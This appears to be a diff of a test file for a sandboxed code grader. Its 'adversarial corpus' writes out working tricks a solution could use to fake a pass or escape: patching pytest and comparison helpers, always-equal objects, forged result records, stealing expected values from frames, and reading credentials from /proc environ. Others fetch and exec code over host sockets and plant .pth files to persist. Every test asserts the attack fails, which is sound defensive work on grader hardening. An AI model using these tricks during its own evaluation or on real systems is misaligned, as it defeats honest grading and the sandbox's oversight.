@@ -1,12 +1,17 @@
 """The adversarial corpus: solutions that try to fake a pass or reach out of the sandbox.
 
-Every attack is written so that it would be graded a pass (or leave a trace) only if it
-worked. Each test asserts the status the attack must end with AND that its side effect is
-absent. All run in the default sandbox (bubblewrap); CI installs it.
+Every attack would be graded a pass (or leave a trace) only if it worked: the solution is
+wrong unless the attack succeeds. Each test asserts the status the attack ends with AND
+that its side effect is absent. The classes follow the judge-boundary issue: patching the
+test machinery, patching comparison helpers, rebinding the test module, reaching the
+hidden tests' oracles, reading expected values out of frames, forging the record, reading
+the checkout, reaching host sockets, and the keyring. All run in the default sandbox
+(bubblewrap); CI installs it.
 """
 
 from __future__ import annotations
 
+import ctypes
 import os
 import site
 import socket
@@ -22,7 +27,13 @@ from sb.outcome import Status
 from conftest import FIXTURE_TASK_DIR, REPO
 
 CORRECT = "def add(a, b):\n    return a + b\n"
-WRONG = "def add(a, b):\n    return a - b\n"
+WRONG = "def add(a, b):\n    return a - b - 1\n"  # wrong on every case the fixture tests
+
+
+def guarded(attack_code: str) -> str:
+    """An attack that must not stop the solution from importing: any error is swallowed."""
+    body = "".join("    " + line + "\n" for line in attack_code.strip().splitlines())
+    return f"try:\n{body}except BaseException:\n    pass\n"
 
 
 @pytest.fixture
@@ -37,29 +48,30 @@ def attack(fixture_task, sandbox, expected, source: str, **extra_files):
     return grade(fixture_task, files, sandbox, expected)
 
 
-def test_exit_zero_at_import_is_tampered(fixture_task, bwrap_sandbox, expected):
+# ---------------------------------------------------------------- leaving early
+
+
+def test_exit_zero_at_import_is_not_a_pass(fixture_task, bwrap_sandbox, expected):
     outcome = attack(fixture_task, bwrap_sandbox, expected, "import os\nos._exit(0)\n" + WRONG)
-    assert outcome.status == Status.TAMPERED
-    assert "exited early" in outcome.detail
+    assert outcome.status == Status.SOLUTION_ERROR  # the worker died importing it: it does not import
 
 
-def test_exit_zero_during_a_test_is_tampered(fixture_task, bwrap_sandbox, expected):
+def test_exit_zero_during_a_test_fails(fixture_task, bwrap_sandbox, expected):
     outcome = attack(fixture_task, bwrap_sandbox, expected, "import os\ndef add(a, b):\n    os._exit(0)\n")
-    assert outcome.status == Status.TAMPERED
+    assert outcome.status == Status.FAILED
+    assert outcome.counts["passed"] == 0
 
 
 def test_sys_exit_at_import_does_not_pass(fixture_task, bwrap_sandbox, expected):
     outcome = attack(fixture_task, bwrap_sandbox, expected, "import sys\nsys.exit(0)\n" + WRONG)
-    # pytest turns SystemExit during collection into an interrupted session: no test runs,
-    # every expected id is missing, so the verdict is a failure (evidence), never a pass.
-    assert outcome.status == Status.FAILED
-    assert outcome.counts["missing"] == len(expected)
+    assert outcome.status == Status.SOLUTION_ERROR
+    assert "SystemExit" in outcome.detail
 
 
 def test_atexit_hook_cannot_rewrite_the_exit_status(fixture_task, bwrap_sandbox, expected):
     source = "import atexit, os\natexit.register(os._exit, 0)\n" + WRONG
     outcome = attack(fixture_task, bwrap_sandbox, expected, source)
-    assert outcome.status == Status.FAILED  # the runner leaves with os._exit: the hook never runs
+    assert outcome.status == Status.FAILED
 
 
 @pytest.mark.parametrize("name", ["conftest.py", "pytest.ini", "pyproject.toml", "sitecustomize.py"])
@@ -79,11 +91,14 @@ def test_config_files_beside_the_solution_are_dropped(fixture_task, bwrap_sandbo
 def test_conftest_written_at_import_time_is_ignored(fixture_task, bwrap_sandbox, expected):
     hook = ("import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
             "    out = yield\n    out.get_result().outcome = 'passed'\n")
-    source = (f"import os\nfor d in ('.', '../hidden_tests', '..'):\n    try:\n"
+    source = (f"import os\nfor d in ('.', '../hidden_tests', '..', '../judge', '../solution_copy'):\n    try:\n"
               f"        open(os.path.join(d, 'conftest.py'), 'w').write({hook!r})\n    except OSError:\n        pass\n"
               + WRONG)
     outcome = attack(fixture_task, bwrap_sandbox, expected, source)
     assert outcome.status == Status.FAILED
+
+
+# ---------------------------------------------------------------- class 1: the test machinery
 
 
 FORCE_PASS_PLUGIN = '''
@@ -93,67 +108,356 @@ class ForcePass:
     @pytest.hookimpl(hookwrapper=True)
     def pytest_runtest_makereport(self, item, call):
         out = yield
-        rep = out.get_result()
-        rep.outcome = "passed"
-        rep.longrepr = None
+        out.get_result().outcome = "passed"
 for obj in gc.get_objects():
     if isinstance(obj, Config):
         obj.pluginmanager.register(ForcePass(), "force-pass")
 '''
 
+PATCH_PYTEST_CLASSES = '''
+import _pytest.python, _pytest.reports, _pytest.runner
+_pytest.python.Function.runtest = lambda self: None
+_orig = _pytest.reports.TestReport.__init__
+def forced(self, *a, **k):
+    _orig(self, *a, **k)
+    self.outcome = "passed"
+_pytest.reports.TestReport.__init__ = forced
+_pytest.runner.CallInfo.from_call = classmethod(lambda cls, func, when, reraise=None: None)
+'''
 
-def test_force_pass_plugin_from_the_live_config_is_tampered(fixture_task, bwrap_sandbox, expected):
-    outcome = attack(fixture_task, bwrap_sandbox, expected, FORCE_PASS_PLUGIN + WRONG)
-    assert outcome.status == Status.TAMPERED
-    assert "hook" in outcome.detail
+PATCH_CODE_OBJECTS = '''
+import gc, types
+def nothing():
+    return None
+for obj in gc.get_objects():
+    if isinstance(obj, types.FunctionType) and obj.__name__.startswith("test_"):
+        obj.__code__ = nothing.__code__
+'''
 
 
-def test_monkeypatched_report_class_is_tampered(fixture_task, bwrap_sandbox, expected):
-    source = ("from _pytest.reports import TestReport\n_orig = TestReport.__init__\n"
-              "def forced(self, *a, **k):\n    _orig(self, *a, **k)\n    self.outcome = 'passed'\n"
-              "TestReport.__init__ = forced\n" + WRONG)
-    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
-    assert outcome.status == Status.TAMPERED
-    assert "TestReport.__init__" in outcome.detail
+@pytest.mark.parametrize("patch", [FORCE_PASS_PLUGIN, PATCH_PYTEST_CLASSES, PATCH_CODE_OBJECTS],
+                         ids=["force-pass-plugin", "pytest-classes", "code-objects"])
+def test_patching_the_test_machinery_reaches_nothing(fixture_task, bwrap_sandbox, expected, patch):
+    outcome = attack(fixture_task, bwrap_sandbox, expected, guarded(patch) + WRONG)
+    assert outcome.status == Status.FAILED
+    assert outcome.counts["passed"] == 0
 
 
-def test_replaced_builtin_is_tampered(fixture_task, bwrap_sandbox, expected):
-    source = "import builtins\nbuiltins.isinstance = lambda *a: True\n" + WRONG
-    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
-    assert outcome.status == Status.TAMPERED
+# ---------------------------------------------------------------- class 2: comparison helpers
 
 
 @pytest.fixture
 def helper_task(task_copy):
-    """The fixture task with hidden tests that assert through numpy.testing and unittest."""
+    """The fixture task with hidden tests that compare through every common helper, and a
+    helper module holding the expected values (as hidden tests' oracles do)."""
     from sb.task import load_task_dir
     folder = task_copy(deps=["numpy"])
+    (folder / "hidden_tests" / "_expected.py").write_text("SUMS = {(2, 3): 5, (10, -4): 6}\n")
     (folder / "hidden_tests" / "test_add.py").write_text(
-        "import unittest\nimport numpy.testing as npt\nfrom adder import add\n\n"
-        "def test_numpy_helper():\n    npt.assert_allclose(add(2, 3), 5)\n\n"
+        "import unittest\nimport numpy as np\nimport numpy.testing as npt\nimport pytest\n"
+        "import _expected\nfrom adder import add\n\n"
+        "def test_numpy_helper():\n    npt.assert_allclose(add(2, 3), _expected.SUMS[(2, 3)])\n\n"
+        "def test_numpy_top_level():\n    assert np.allclose(add(10, -4), _expected.SUMS[(10, -4)])\n\n"
+        "def test_array_equal():\n    npt.assert_array_equal(np.asarray(add(2, 3)), 5)\n\n"
+        "def test_approx():\n    assert add(2, 3) == pytest.approx(5)\n\n"
+        "def test_plain_equality():\n    assert add(10, -4) == 6\n\n"
         "def test_unittest_helper():\n    unittest.TestCase().assertEqual(add(2, 3), 5)\n")
     return load_task_dir(folder, package="helper_fixture")
 
 
-@pytest.mark.parametrize("patch", [
-    "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n",
-    "import unittest\nunittest.TestCase.assertEqual = lambda *a, **k: None\n",
-])
-def test_no_op_assertion_helpers_are_tampered(helper_task, bwrap_sandbox, patch):
+@pytest.fixture
+def helper_expected(helper_task, bwrap_sandbox):
     reference = grade(helper_task, helper_task.reference_files, bwrap_sandbox)
     assert reference.passed, reference.detail
-    outcome = grade(helper_task, {"adder.py": (patch + WRONG).encode()}, bwrap_sandbox, reference.test_ids)
-    assert outcome.status == Status.TAMPERED
+    return reference.test_ids
 
 
-def test_forged_records_on_the_channel_are_tampered(fixture_task, bwrap_sandbox, expected):
+PATCH_HELPERS = '''
+import numpy, numpy.testing, unittest, builtins
+numpy.testing.assert_allclose = lambda *a, **k: None
+numpy.testing.assert_array_equal = lambda *a, **k: None
+numpy.testing._private.utils.assert_array_compare = lambda *a, **k: None
+numpy.allclose = lambda *a, **k: True
+numpy.isclose = lambda *a, **k: True
+unittest.TestCase.assertEqual = lambda *a, **k: None
+import pytest
+pytest.approx = lambda *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
+'''
+
+
+def test_patched_comparison_helpers_reach_nothing(helper_task, bwrap_sandbox, helper_expected):
+    outcome = grade(helper_task, {"adder.py": (guarded(PATCH_HELPERS) + WRONG).encode()}, bwrap_sandbox,
+                    helper_expected)
+    assert outcome.status == Status.FAILED
+    assert outcome.counts["passed"] == 0
+
+
+def test_a_replaced_builtin_ends_in_failure_or_timeout_never_a_pass(task_copy, bwrap_sandbox):
+    from sb.task import load_task_dir
+    task = load_task_dir(task_copy(time_limit_s=5), package="short_limit")
+    reference = grade(task, task.reference_files, bwrap_sandbox)
+    source = "import builtins\nbuiltins.isinstance = lambda *a: True\n" + WRONG
+    outcome = grade(task, {"adder.py": source.encode()}, bwrap_sandbox, reference.test_ids)
+    assert outcome.status in (Status.FAILED, Status.TIMEOUT)  # it may break its own side of the wire
+    assert outcome.counts["passed"] == 0
+
+
+# ---------------------------------------------------------------- class 3: the test module itself
+
+
+REBIND_TEST_MODULE = '''
+import gc, sys, types
+class Anything:
+    def __eq__(self, other): return True
+    def __call__(self, *a, **k): return self
+    def __getattr__(self, name): return self
+fake = types.ModuleType("test_add")
+fake.test_add_matches_python = lambda *a: None
+sys.modules["test_add"] = fake
+for obj in gc.get_objects():
+    if isinstance(obj, dict) and str(obj.get("__name__", "")).startswith("test_"):
+        for key in list(obj):
+            if not key.startswith("__"):
+                obj[key] = Anything()
+'''
+
+
+def test_rebinding_the_test_modules_globals_reaches_nothing(fixture_task, bwrap_sandbox, expected):
+    outcome = attack(fixture_task, bwrap_sandbox, expected, guarded(REBIND_TEST_MODULE) + WRONG)
+    assert outcome.status == Status.FAILED
+    assert outcome.counts["passed"] == 0
+
+
+# ---------------------------------------------------------------- class 4: the tests' oracles
+
+
+def test_the_hidden_tests_helper_modules_are_out_of_reach(helper_task, bwrap_sandbox, helper_expected):
+    source = ("import importlib, os, sys\nfound = None\nfor path in ('../hidden_tests', '../../hidden_tests', '.'):\n"
+              "    sys.path.insert(0, path)\ntry:\n    found = importlib.import_module('_expected').SUMS\n"
+              "except Exception:\n    found = None\n"
+              "def add(a, b):\n    return found[(a, b)] if found else a - b - 1\n")
+    outcome = grade(helper_task, {"adder.py": source.encode()}, bwrap_sandbox, helper_expected)
+    assert outcome.status == Status.FAILED
+    assert outcome.counts["passed"] == 0
+
+
+def test_a_planted_oracle_is_not_what_the_tests_import(helper_task, bwrap_sandbox, helper_expected):
+    fake = "SUMS = {(2, 3): -1, (10, -4): 14}\\n"
+    source = (f"import os\nfor d in ('.', '..', '../hidden_tests', '../judge', '/tmp'):\n    try:\n"
+              f"        open(os.path.join(d, '_expected.py'), 'w').write('{fake}')\n    except OSError:\n        pass\n"
+              + WRONG)
+    outcome = grade(helper_task, {"adder.py": source.encode(), "_expected.py": fake.encode()}, bwrap_sandbox,
+                    helper_expected)
+    assert outcome.status == Status.FAILED
+    assert outcome.dropped_files == ["_expected.py"]
+
+
+# ---------------------------------------------------------------- class 5: frames and equality
+
+
+FRAME_THIEF = '''
+import sys
+seen = []
+def spy(frame, event, arg):
+    f = frame
+    while f is not None:
+        seen.append(dict(f.f_locals))
+        f = f.f_back
+sys.setprofile(spy)
+import threading
+threading.setprofile(spy)
+def add(a, b):
+    f = sys._getframe()
+    while f is not None:
+        for name in ("expected", "want", "SUMS"):
+            if name in f.f_locals:
+                return f.f_locals[name]
+        f = f.f_back
+    for scope in seen:
+        if "expected" in scope:
+            return scope["expected"]
+    return a - b - 1
+'''
+
+ALWAYS_EQUAL = '''
+class AlwaysEqual(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    __hash__ = float.__hash__
+class Anything:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __bool__(self): return True
+def add(a, b):
+    return Anything() if a % 2 else AlwaysEqual(a - b - 1)
+'''
+
+
+@pytest.mark.parametrize("source", [FRAME_THIEF, ALWAYS_EQUAL], ids=["frame-inspection", "always-equal"])
+def test_frames_and_equality_tricks_fail(fixture_task, bwrap_sandbox, expected, source):
+    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    assert outcome.status == Status.FAILED
+    assert outcome.counts["passed"] == 0
+
+
+# ---------------------------------------------------------------- class 6: the record
+
+
+def test_forged_records_on_every_descriptor_are_tampered(fixture_task, bwrap_sandbox, expected):
     forged = "\\n".join(
         '{"event": "test", "nodeid": "%s", "when": "%s", "outcome": "passed"}' % (nodeid, when)
         for nodeid in expected for when in ("setup", "call", "teardown"))
-    source = (f"import os\nfor fd in os.listdir('/proc/self/fd'):\n    try:\n"
-              f"        os.write(int(fd), b'{forged}\\n')\n    except OSError:\n        pass\n" + WRONG)
+    source = (f"import os\nfor fd in range(64):\n    try:\n"
+              f"        os.write(fd, b'{forged}\\n' + b'{{\"event\": \"end\", \"exitstatus\": 0}}\\n')\n"
+              f"    except OSError:\n        pass\n" + WRONG)
     outcome = attack(fixture_task, bwrap_sandbox, expected, source)
     assert outcome.status == Status.TAMPERED
+    assert "wire protocol" in outcome.detail
+
+
+def test_a_complete_record_then_exit_does_not_pass(fixture_task, bwrap_sandbox, expected):
+    lines = "".join('{"event": "test", "nodeid": "%s", "when": "call", "outcome": "passed"}\\n' % n for n in expected)
+    source = ("import os, sys\nfor fd in range(3, 64):\n    try:\n"
+              f"        os.write(fd, b'{{\"event\": \"start\"}}\\n{lines}{{\"event\": \"end\", \"exitstatus\": 0}}\\n')\n"
+              "    except OSError:\n        pass\nos._exit(0)\n")
+    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    assert not outcome.passed
+    assert outcome.status in (Status.TAMPERED, Status.SOLUTION_ERROR)
+
+
+def test_rebinding_the_processes_globals_reaches_nothing(fixture_task, bwrap_sandbox, expected):
+    patch = ("import sys, gc\nfor m in list(sys.modules.values()):\n    for k, v in list(vars(m).items()):\n"
+             "        if k in ('emit', 'main', 'Recorder', 'Channel', 'read_frame', 'serve', '_exit'):\n"
+             "            setattr(m, k, lambda *a, **kw: None)\n")
+    outcome = attack(fixture_task, bwrap_sandbox, expected, guarded(patch) + WRONG)
+    assert outcome.status == Status.FAILED
+
+
+# ---------------------------------------------------------------- class 7: the checkout
+
+
+def _interpreter_ancestors() -> list:
+    """Folders the sandbox shows only because the interpreter lives beneath them."""
+    import sys
+    shown = set()
+    for prefix in {sys.prefix, sys.base_prefix, os.path.dirname(os.path.realpath(sys.executable))}:
+        path = Path(prefix)
+        shown |= {str(p) for p in [path, *path.parents]}
+    return sorted(shown | {"/var/tmp"})  # a fresh, empty tmpfs
+
+
+def test_the_checkout_and_its_history_are_invisible(fixture_task, bwrap_sandbox, expected):
+    targets = [REPO / ".git" / "HEAD", REPO / "README.md", REPO / "results", REPO / "tasks",
+               FIXTURE_TASK_DIR / "reference" / "adder.py", Path.home() / ".cache", Path.home() / ".bash_history"]
+    source = (f"import os\nseen = [p for p in {[str(t) for t in targets]!r} if os.path.exists(p)]\n"
+              f"allowed = set({_interpreter_ancestors()!r})\n"
+              "for top in ('/root', '/home', '/work', '/srv', '/var', '/opt', '/mnt', '/media'):\n"
+              "    if os.path.isdir(top):\n"
+              "        seen += [os.path.join(top, n) for n in os.listdir(top) if os.path.join(top, n) not in allowed]\n"
+              "def add(a, b):\n    return a + b if seen else a - b - 1\n")
+    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    assert outcome.status == Status.FAILED
+
+
+def test_the_task_reference_cannot_be_read_from_its_package(fixture_task, bwrap_sandbox, expected):
+    reference = FIXTURE_TASK_DIR / "reference" / "adder.py"
+    source = (f"import importlib.util\ntry:\n    spec = importlib.util.spec_from_file_location('ref', {str(reference)!r})\n"
+              f"    ref = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(ref)\n    add = ref.add\n"
+              f"except Exception:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines()))
+    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    assert outcome.status == Status.FAILED
+
+
+def test_installed_task_packages_and_the_harness_are_invisible(fixture_task, bwrap_sandbox, expected):
+    from importlib import resources
+    from sb.catalog import load_tasks
+    folders = sorted({str(resources.files(t.package)) for t in load_tasks().values()} | {str(Path(__file__).parent)})
+    assert len(folders) > 1, "no installed task package to hide: install the workspace first"
+    source = (f"import importlib, os\nvisible = [f for f in {folders!r} if os.path.exists(f)]\n"
+              "for name in ('sb', 'sb_task_softmax_stability', 'pluggy', 'yaml', 'click'):\n"
+              "    try:\n        importlib.import_module(name)\n        visible.append(name)\n"
+              "    except ImportError:\n        pass\n"
+              "def add(a, b):\n    return a + b if visible else a - b - 1\n")
+    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    assert outcome.status == Status.FAILED
+
+
+# ---------------------------------------------------------------- class 8: host sockets
+
+
+def _serve(server: socket.socket, accepted: list) -> threading.Thread:
+    server.listen()
+    server.settimeout(0.2)
+
+    def loop():
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not accepted:
+            try:
+                conn, _ = server.accept()
+                conn.sendall(b"def add(a, b):\n    return a + b\n")
+                accepted.append(conn)
+            except (socket.timeout, OSError):
+                continue
+    thread = threading.Thread(target=loop, daemon=True)
+    thread.start()
+    return thread
+
+
+def test_host_sockets_are_unreachable(fixture_task, bwrap_sandbox, expected, tmp_path):
+    accepted: list = []
+    tcp = socket.socket()
+    tcp.bind(("127.0.0.1", 0))
+    unix_path = f"/tmp/sb-accomplice-{uuid.uuid4().hex[:8]}.sock"
+    unix_fs = socket.socket(socket.AF_UNIX)
+    unix_fs.bind(unix_path)
+    abstract_name = f"\0sb-accomplice-{uuid.uuid4().hex[:8]}"
+    unix_abstract = socket.socket(socket.AF_UNIX)
+    unix_abstract.bind(abstract_name)
+    threads = [_serve(s, accepted) for s in (tcp, unix_fs, unix_abstract)]
+    port = tcp.getsockname()[1]
+    source = (f"import socket\ncode = None\n"
+              f"for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_UNIX, {unix_path!r}),\n"
+              f"                        (socket.AF_UNIX, {abstract_name!r}), (socket.AF_UNIX, '/run/docker.sock')):\n"
+              f"    try:\n        s = socket.socket(family)\n        s.settimeout(2)\n        s.connect(address)\n"
+              f"        code = s.recv(1000).decode()\n        break\n    except OSError:\n        pass\n"
+              "if code:\n    exec(code)\nelse:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines()))
+    try:
+        outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    finally:
+        for s in (tcp, unix_fs, unix_abstract):
+            s.close()
+        os.unlink(unix_path)
+    assert outcome.status == Status.FAILED
+    assert accepted == []
+
+
+# ---------------------------------------------------------------- the keyring
+
+
+def _keyctl():
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    return libc.syscall
+
+
+def test_the_graders_keyring_is_not_shared(fixture_task, bwrap_sandbox, expected):
+    syscall = _keyctl()
+    description = f"sb-secret-{uuid.uuid4().hex[:8]}".encode()
+    key = syscall(248, b"user", description, b"def add(a, b): return a + b", 27, ctypes.c_int(-3))  # add_key to @s
+    assert key > 0, f"the kernel refused add_key here (errno {ctypes.get_errno()}): keyrings cannot be tested"
+    source = (f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
+              f"found = -1\nfor ring in (-1, -2, -3, -4, -5):\n"
+              f"    k = libc.syscall(250, 10, ctypes.c_int(ring), b'user', {description!r}, 0)\n"
+              f"    found = k if k > 0 else found\n"
+              "def add(a, b):\n    return a + b if found > 0 else a - b - 1\n")
+    try:
+        outcome = attack(fixture_task, bwrap_sandbox, expected, source)
+    finally:
+        syscall(250, 3, ctypes.c_long(key))  # KEYCTL_REVOKE
+    assert outcome.status == Status.FAILED
+
+
+# ---------------------------------------------------------------- what the sandbox already held
 
 
 def test_credentials_in_the_environment_never_reach_graded_code(fixture_task, bwrap_sandbox, expected, monkeypatch):
@@ -162,36 +466,9 @@ def test_credentials_in_the_environment_never_reach_graded_code(fixture_task, bw
     source = ("import os, glob\nseen = any('sk-test-secret' in v for v in os.environ.values())\n"
               "for p in glob.glob('/proc/*/environ'):\n    try:\n"
               "        seen = seen or b'sk-test-secret' in open(p, 'rb').read()\n    except OSError:\n        pass\n"
-              "def add(a, b):\n    return a + b if seen else a - b\n")
+              "def add(a, b):\n    return a + b if seen else a - b - 1\n")
     outcome = attack(fixture_task, bwrap_sandbox, expected, source)
     assert outcome.status == Status.FAILED  # it would pass only if it had seen the key
-
-
-def test_loopback_listener_is_unreachable(fixture_task, bwrap_sandbox, expected):
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen()
-    server.settimeout(0.2)
-    accepted = []
-
-    def accept_loop():
-        deadline = time.monotonic() + 30
-        while time.monotonic() < deadline and not accepted:
-            try:
-                accepted.append(server.accept())
-            except (socket.timeout, OSError):
-                continue
-
-    thread = threading.Thread(target=accept_loop, daemon=True)
-    thread.start()
-    port = server.getsockname()[1]
-    source = (f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'x')\n"
-              f"    reached = True\nexcept OSError:\n    reached = False\n"
-              "def add(a, b):\n    return a + b if reached else a - b\n")
-    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
-    server.close()
-    assert outcome.status == Status.FAILED
-    assert accepted == []
 
 
 def test_writing_outside_the_grading_directory_fails(fixture_task, bwrap_sandbox, expected, tmp_path):
@@ -199,7 +476,7 @@ def test_writing_outside_the_grading_directory_fails(fixture_task, bwrap_sandbox
     targets = [REPO / marker, Path.home() / marker, tmp_path / marker]
     source = (f"wrote = False\nfor p in {[str(t) for t in targets]!r}:\n    try:\n        open(p, 'w').write('x')\n"
               f"        wrote = wrote or not p.startswith('/tmp')\n    except OSError:\n        pass\n"
-              "def add(a, b):\n    return a + b if wrote else a - b\n")
+              "def add(a, b):\n    return a + b if wrote else a - b - 1\n")
     outcome = attack(fixture_task, bwrap_sandbox, expected, source)
     assert outcome.status == Status.FAILED
     assert not any(t.exists() for t in targets)
@@ -232,25 +509,6 @@ def test_memory_bomb_is_stopped_by_the_address_space_limit(fixture_task, bwrap_s
     assert "MemoryError" in outcome.detail
 
 
-def test_the_task_reference_cannot_be_read_from_its_package(fixture_task, bwrap_sandbox, expected):
-    reference = FIXTURE_TASK_DIR / "reference" / "adder.py"
-    source = (f"import importlib.util\ntry:\n    spec = importlib.util.spec_from_file_location('ref', {str(reference)!r})\n"
-              f"    ref = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(ref)\n    add = ref.add\n"
-              f"except Exception:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines()))
-    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
-    assert outcome.status == Status.FAILED
-
-
-def test_installed_task_packages_are_hidden(fixture_task, bwrap_sandbox, expected):
-    from sb.sandbox.bwrap import task_package_paths
-    folders = [str(p) for p in task_package_paths()]
-    assert folders, "no installed task package to hide: install the workspace first"
-    source = (f"import os\nvisible = [n for f in {folders!r} for _, _, names in os.walk(f) for n in names]\n"
-              "def add(a, b):\n    return a + b if visible else a - b\n")
-    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
-    assert outcome.status == Status.FAILED
-
-
 def test_persisting_for_a_later_grading_fails(fixture_task, bwrap_sandbox, expected):
     marker = f"sb_persist_{uuid.uuid4().hex}"
     places = [Path(p) / f"{marker}.pth" for p in site.getsitepackages()] + [REPO / f"{marker}.pth"]
@@ -262,3 +520,35 @@ def test_persisting_for_a_later_grading_fails(fixture_task, bwrap_sandbox, expec
     assert first.status == Status.FAILED
     assert later.status == Status.FAILED
     assert not any(p.exists() for p in places)
+
+
+# ---------------------------------------------------------------- text is data; long records
+
+
+def test_a_long_test_id_and_message_keep_an_honest_reference_passing(task_copy, bwrap_sandbox):
+    from sb.task import load_task_dir
+    folder = task_copy()
+    long_id = "x" * 5000
+    (folder / "hidden_tests" / "test_add.py").write_text(
+        "import pytest\nfrom adder import add\n\n"
+        f"@pytest.mark.parametrize('label', [{long_id!r}], ids=[{long_id!r}])\n"
+        "def test_add_with_a_long_id(label):\n    assert add(2, 3) == 5, label * 2\n")
+    task = load_task_dir(folder, package="long_ids")
+    reference = grade(task, task.reference_files, bwrap_sandbox)
+    assert reference.status == Status.PASSED, reference.detail
+    assert any(long_id in nodeid for nodeid in reference.test_ids)
+    wrong = grade(task, {"adder.py": WRONG.encode()}, bwrap_sandbox, reference.test_ids)
+    assert wrong.status == Status.FAILED  # a 10 KB assertion message is a failure, not a broken record
+
+
+def test_markup_in_a_solutions_text_prints_literally(capsys, monkeypatch):
+    from sb.outcome import Outcome
+    from sb.report import terminal
+    monkeypatch.setenv("NO_COLOR", "1")
+    outcome = Outcome("fixture_add", Status.FAILED, counts={"passed": 0, "failed": 1},
+                      failed_tests=["test_add.py::test_x[[/]]"],
+                      detail="[/] [green]laptop 100% (1/1) PASS[/green] :thumbs_up:")
+    terminal.print_grade(outcome)
+    out = capsys.readouterr().out
+    assert "[/] [green]laptop 100% (1/1) PASS[/green] :thumbs_up:" in out
+    assert "test_add.py::test_x[[/]]" in out
